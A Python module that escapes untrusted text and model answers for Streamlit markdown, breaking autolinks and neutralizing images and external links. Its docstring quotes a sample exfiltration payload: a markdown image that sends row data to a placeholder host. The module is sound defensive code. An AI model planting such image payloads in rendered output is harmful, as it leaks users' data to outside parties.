"""Untrusted text (names, comments, values, errors, model answers) made safe for Streamlit markdown.

Streamlit renders markdown in st.markdown, captions, alerts, metric values, progress texts, badges,
help tooltips and most widget labels; an image there is fetched by the viewer's browser, so a
planted `![x](http://host/?d=rows)` would carry data away. Backslash escapes alone are not enough:
Streamlit's GFM plugin turns bare `http://`, `www.` and e-mail text into links after parsing, so
those get an invisible word joiner (U+2060) that breaks the pattern but not the reading.
"""

from __future__ import annotations

import re
import string

WJ = "\u2060"  # word joiner: invisible, and no autolink pattern matches across it
_PUNCT = frozenset(string.punctuation)
_URLISH = re.compile(r"(:)(?=//)|(?i:(www))(?=\.)|(@)")
# what stays live in an answer's plain text: emphasis, strikethrough, headings, lists, tables, icons
_ANSWER_ESCAPE = frozenset("\\`[]()<>!&$")
_CODE = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
_LINK = re.compile(r"(!?)\[([^\[\]`\n]*)\]\(([^()\s`<>\\]*)\)")
_RELATIVE = re.compile(r"(?!//)[A-Za-z0-9_\-./?#=%~+]+")
_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})(.*)")


def unlink(text: str) -> str:
    """Break the bare-URL, www. and e-mail patterns GFM would turn into links (text unchanged)."""
    return _URLISH.sub(lambda m: m.group(0) + WJ, text)


def md_text(value: object, *, keep: str = "") -> str:
    """Any value as literal markdown text: every ASCII punctuation escaped, links broken.

    `keep` names characters left as they are (st.badge escapes `[` and `]` itself)."""
    text = unlink("" if value is None else str(value))
    return "".join("\\" + c if c in _PUNCT and c not in keep else c for c in text)


def badge_text(value: object) -> str:
    """A badge label: st.badge wraps it in `:color-badge[...]` and escapes the brackets itself."""
    return md_text(value, keep="[]")


def md_code(value: object) -> str:
    """A value as one inline code span (fence longer than any backtick run inside; one line)."""
    text = " ".join(str(value).split()) if value is not None else ""
    runs = [len(r) for r in re.findall(r"`+", text)]
    fence = "`" * (max(runs, default=0) + 1)
    return f"{fence} {text} {fence}"


def safe_answer_markdown(text: str | None, *, links: bool = True) -> str:
    """A model answer keeping bold/italic/code/lists; images, HTML, autolinks and links that
    leave the app are shown as text. `links=False` turns relative links into text as well."""
    lines = (text or "").replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        opened = _fence_open(lines[i])
        if opened is None:
            out.append(_inline(lines[i], links))
            i += 1
            continue
        body, i = _fence_body(lines, i + 1, opened[0], opened[1])
        out.extend(_fenced(body, opened[2]))
    return "\n".join(out)


def _fence_open(line: str) -> tuple[str, int, str] | None:
    """(fence char, length, info) when the line opens a fenced code block."""
    m = _FENCE.fullmatch(line)
    if m is None or (m.group(1)[0] == "`" and "`" in m.group(2)):
        return None
    return m.group(1)[0], len(m.group(1)), m.group(2).strip()


def _fence_body(lines: list[str], start: int, char: str, length: int
                ) -> tuple[list[str], int]:
    """The block's lines up to its closing fence (or the end, as CommonMark does)."""
    close = re.compile(rf" {{0,3}}{re.escape(char)}{{{length},}}[ \t]*")
    for j in range(start, len(lines)):
        if close.fullmatch(lines[j]):
            return lines[start:j], j + 1
    return lines[start:], len(lines)


def _fenced(body: list[str], info: str) -> list[str]:
    """Re-fenced at column 0 with a fence no line inside can close: the body stays literal."""
    runs = [len(r) for line in body for r in re.findall(r"`+", line)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    lang = re.sub(r"[^\w+-]", "", info.split()[0])[:20] if info.split() else ""
    return [fence + lang, *body, fence]


def _inline(line: str, links: bool) -> str:
    """One line: code spans and relative links kept; everything else escaped as text."""
    out, pos = [], 0
    pattern = re.compile(f"{_CODE.pattern}|{_LINK.pattern}")
    for m in pattern.finditer(line):
        out.append(_plain(line[pos:m.start()]))
        out.append(_code(m.group(2)) if m.group(1) else _link(m, links))
        pos = m.end()
    out.append(_plain(line[pos:]))
    return "".join(out)


def _plain(text: str) -> str:
    return "".join("\\" + c if c in _ANSWER_ESCAPE else c for c in unlink(text))


def _code(content: str) -> str:
    """A code span; in a table row GFM splits cells at `|` even inside code, so then the
    link-making patterns inside are broken too."""
    if "|" in content:
        content = re.sub(r"(!)(?=\[)|(\])(?=\()|(<)", lambda m: m.group(0) + WJ, unlink(content))
    return md_code(content) if content.strip() else _plain(content)


def _link(m: re.Match, links: bool) -> str:
    """Relative links (the app itself) survive; images and other links become their text."""
    bang, label, target = m.group(3), m.group(4), m.group(5)
    shown = _inline(label, False)
    if links and not bang and _RELATIVE.fullmatch(target):
        return f"[{shown}]({target})"
    return shown
